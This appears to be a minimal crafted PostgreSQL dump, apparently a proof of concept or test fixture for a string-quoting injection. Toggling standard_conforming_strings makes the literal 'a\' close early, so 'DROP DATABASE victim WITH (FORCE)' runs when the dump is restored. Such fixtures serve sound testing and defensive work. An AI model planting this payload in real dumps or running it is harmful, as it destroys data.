--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
SET standard_conforming_strings = off;
SET standard_conforming_strings = on;
SELECT 'a\'; DROP DATABASE victim WITH (FORCE); SELECT ';';

--
-- PostgreSQL database dump complete
--
